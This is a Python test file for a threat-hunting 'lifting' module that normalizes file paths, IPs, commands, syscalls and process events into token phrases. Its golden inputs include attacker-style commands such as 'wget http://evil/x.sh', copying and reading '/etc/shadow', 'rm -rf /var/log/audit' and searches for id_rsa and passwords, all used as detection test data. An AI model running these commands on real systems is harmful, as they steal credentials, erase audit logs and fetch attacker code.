import json

import pytest

from provhunt.lifting import (
    ObjectDesc,
    ProcessDesc,
    RawEvent,
    lift_command,
    lift_event,
    lift_ip,
    lift_path,
    lift_process,
    lift_syscall,
    load_rules,
)

from conftest import LIFTING_GOLDENS

DNS = {"64.233.160.0": "google.com"}


# -- path rule table ---------------------------------------------------------

GOLDEN_PATHS = [
    ("/etc/nginx/conf/site.conf", "etc nginx conf file"),
    ("/var/log/nginx/access.log", "var log log file"),
    ("/proc/1234/net/tcp", "proc net tcp file"),
    ("/bin/ls", "ls file"),
    ("/sbin/init", "init file"),
    ("/usr/bin/wget", "wget file"),
    ("/usr/sbin/sshd", "sshd file"),
    ("/usr/local/bin/helper", "helper file"),
    ("/usr/local/sbin/daemon2", "daemon2 file"),
    ("/usr/bin/long_file_name/wallet.db", "wallet db file"),
    ("/home/aa/docs/secret/wallet.db", "user docs wallet db file"),
    ("/root/toolkit/scan.py", "root user toolkit scan py file"),
    ("/lib/modules/5.15/kernel/fs/ext4.ko", "modules library file"),
    ("/lib64/ld-linux-x86-64.so.2", "library file"),
    ("/usr/local/lib/python3.10/site.py", "python3 10 library file"),
    ("/opt/app/lib/vendor/util.so", "vendor library file"),
    ("/tmp/x/payload.elf", "elf file"),
    ("/tmp/s", "tmp s file"),
    ("/srv/www/htdocs/index.html", "html file"),
    ("HKCU\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon", "registry run key"),
    ("HKLM\\SYSTEM\\CurrentControlSet\\Services\\Tcpip", "registry run key"),
    ("HKEY_LOCAL_MACHINE\\SOFTWARE\\Classes\\exefile", "registry run key"),
    ("C:\\Windows\\System32\\drivers\\etc\\hosts.ics", "windows system drivers hosts.ics file"),
    ("c:\\windows\\temp\\stage.dll", "windows system temp stage.dll file"),
    ("C:\\Program Files\\Mozilla Firefox\\firefox.exe", "mozilla firefox firefox exe file"),
    ("C:\\Program Files (x86)\\App\\bin\\tool.exe", "app tool exe file"),
    ("c:\\users\\bob\\doc.docx", "doc docx file"),
    ("/etc/shadow", "etc shadow file"),
    ("../firefox/resource/login_data", "firefox resource login data file"),
]


@pytest.mark.parametrize("path,expected", GOLDEN_PATHS)
def test_path_rule_rows(path, expected):
    assert " ".join(lift_path(path)) == expected


def test_exactly_one_rule_fires_deterministically():
    # precedence: the etc row wins over the generic other row
    assert " ".join(lift_path("/etc/passwd")) == "etc passwd file"
    # repeated application returns identical output
    for p, _ in GOLDEN_PATHS:
        assert lift_path(p) == lift_path(p)


def test_path_totality_on_odd_inputs():
    for p in ("x", "weird-name", "/", "//", "a/b/c", "/x",
              "/tmp/", "/home/u/", "C:\\", "....", "/etc/"):
        toks = lift_path(p)
        assert isinstance(toks, list) and toks, p


def test_empty_path_rejected():
    with pytest.raises(ValueError):
        lift_path("")


def test_bin_user_folder_alias_flag():
    rules = load_rules(bin_user_folder_alias=True)
    assert " ".join(lift_path("/usr/bin/long_file_name/wallet.db", rules=rules)) == \
        "user folder wallet db file"
    # direct bin children are unaffected
    assert " ".join(lift_path("/usr/bin/wget", rules=rules)) == "wget file"


# -- IPs ----------------------------------------------------------------------

def test_ip_internal_ranges():
    for addr in ("192.168.1.5", "10.1.2.3", "172.16.9.1"):
        assert " ".join(lift_ip(addr)) == "internal network"


def test_ip_resolved_external():
    assert " ".join(lift_ip("64.233.160.0", DNS)) == "external network google"


def test_ip_unresolved_external():
    assert " ".join(lift_ip("203.0.113.7", {})) == "unknown network"


def test_ip_domain_only_switch():
    rules = load_rules(external_ip_domain_only=True)
    assert " ".join(lift_ip("64.233.160.0", DNS, rules)) == "google"


def test_ip_rejects_garbage():
    with pytest.raises(ValueError):
        lift_ip("not-an-ip")


# -- commands -----------------------------------------------------------------

GOLDEN_COMMANDS = [
    ("cp /etc/shadow /tmp/s", "copy etc shadow file tmp s file"),
    ("scp x.tgz host:/up", "transfer x tgz host up"),
    ("ssh root@10.0.0.9", "transfer root 10 0 0 9"),
    ("wget http://evil/x.sh", "download evil sh file"),
    ("ls -la", "list"),
    ("dir", "list"),
    ("rm -rf /var/log/audit", "remove var log audit file"),
    ("del C:\\Temp\\x.dll", "remove x dll file"),
    ("rmdir /tmp/work", "remove tmp work file"),
    ("sh /tmp/stage2.sh", "shell tmp stage2 sh file"),
    ("stat /etc/passwd", "show etc passwd file"),
    ("cat /etc/shadow", "show etc shadow file"),
    ("schtask /create /tn updater", "schedule updater"),
    ("rundll32 evil.dll", "rundll32 evil dll"),
    ("rundll evil.dll", "run dll file evil dll"),
    ("reg add HKCU\\Run", "add registry run key"),
    ("reg del HKLM\\Services\\Tcpip", "del registry run key"),
    ("kill -9 4242", "stop 4242"),
    ("pkill nginx", "stop nginx"),
    ("taskkill /pid 4242", "stop 4242"),
    ("grep -r password /home", "search password"),
    ("find / -name id_rsa", "search id rsa"),
    ("Get-ChildItem", "get child item"),
    ("Invoke-Command", "invoke command"),
    ("New-Item", "new item"),
    ("certutil -urlcache http://evil/x.sh", "transfer evil sh file"),
]


@pytest.mark.parametrize("cmd,expected", GOLDEN_COMMANDS)
def test_command_rows(cmd, expected):
    assert " ".join(lift_command(cmd, DNS)) == expected


def test_cat_show_precedence():
    # the table carries both "stat, cat -> show" and "cat -> read";
    # first match wins top-to-bottom
    assert lift_command("cat x")[:1] == ["show"]


def test_command_empty_and_whitespace():
    assert lift_command("") == []
    assert lift_command("   ") == []


def test_unknown_executable_passthrough_lowercased():
    assert lift_command("MyTool --flag")[:2] == ["mytool"][:2]
    assert lift_command("/opt/x/OddBin arg")[0] == "oddbin"


# -- syscalls -----------------------------------------------------------------

@pytest.mark.parametrize("name,expected", [
    ("execve", "execute"),
    ("recvmsg", "receive"),
    ("recvfrom", "receive"),
    ("sendmsg", "send"),
    ("sendto", "send"),
    ("chmod", "change file mode"),
    ("openat", "openat"),
    ("read", "read"),
])
def test_syscall_rows(name, expected):
    assert " ".join(lift_syscall(name)) == expected


# -- processes ---------------------------------------------------------------

def test_process_app_name_from_install_folder():
    assert lift_process("firefox", "/usr/lib/firefox/firefox") == ["firefox"]
    assert lift_process("chrome", "/opt/google/chrome") == ["google"]
    assert lift_process("wget", "/usr/bin/wget") == ["wget"]


def test_process_bare_name_lowercased():
    assert lift_process("La1") == ["la1"]
    assert lift_process("My-Agent") == ["my", "agent"]


# -- whole events --------------------------------------------------------------

def make_event(**kw):
    base = dict(
        ts=1, host="h", source=ProcessDesc(10, "firefox", "/usr/lib/firefox/firefox"),
        destination=ObjectDesc("file", "/home/aa/.mozilla/key.db"),
        syscalltype="read", commandline="",
    )
    base.update(kw)
    return RawEvent(**base)


def test_lift_event_home_rule():
    le = lift_event(make_event())
    assert le.lifted["destination"] == ["user", "mozilla", "key", "db", "file"]
    assert le.lifted["source"] == ["firefox"]


def test_lift_event_empty_commandline_omits_key():
    le = lift_event(make_event(commandline=""))
    assert "commandline" not in le.lifted
    assert {"source", "destination", "syscalltype"} <= set(le.lifted)


def test_lift_event_totality_nonempty_fields():
    le = lift_event(make_event(
        destination=ObjectDesc("file", "####"), syscalltype="zz_special",
        commandline="Weird\x00Input"))
    for fieldname, phrase in le.lifted.items():
        assert phrase, fieldname


def test_lift_event_idempotent_on_lifted_tokens():
    le1 = lift_event(make_event())
    relifted = make_event(
        source=ProcessDesc(10, " ".join(le1.lifted["source"]), ""),
        destination=ObjectDesc("file", " ".join(le1.lifted["destination"])),
        syscalltype=" ".join(le1.lifted["syscalltype"]),
    )
    le2 = lift_event(relifted)
    assert le2.lifted["destination"] == le1.lifted["destination"]
    assert le2.lifted["syscalltype"] == le1.lifted["syscalltype"]
    assert le2.lifted["source"] == le1.lifted["source"]


def test_lift_event_ip_and_registry_kinds():
    le = lift_event(make_event(destination=ObjectDesc("ip", "192.168.0.9")))
    assert le.lifted["destination"] == ["internal", "network"]
    le = lift_event(make_event(destination=ObjectDesc("registry", "HKCU\\Run")))
    assert le.lifted["destination"] == ["registry", "run", "key"]


def test_lift_event_process_destination_with_pid_prefix():
    le = lift_event(make_event(destination=ObjectDesc("process", "42:payload")))
    assert le.lifted["destination"] == ["payload"]


# -- frozen golden file (shared with other components) -------------------------

def test_shared_golden_file_still_reproduces():
    goldens = json.loads(LIFTING_GOLDENS.read_text())
    dns = goldens["dns_map"]
    fns = {
        "path": lambda s: lift_path(s),
        "ip": lambda s: lift_ip(s, dns),
        "command": lambda s: lift_command(s, dns),
        "syscall": lambda s: lift_syscall(s),
    }
    assert len(goldens["cases"]) >= 100
    for case in goldens["cases"]:
        got = " ".join(fns[case["kind"]](case["input"]))
        assert got == case["lifted"], case["input"]
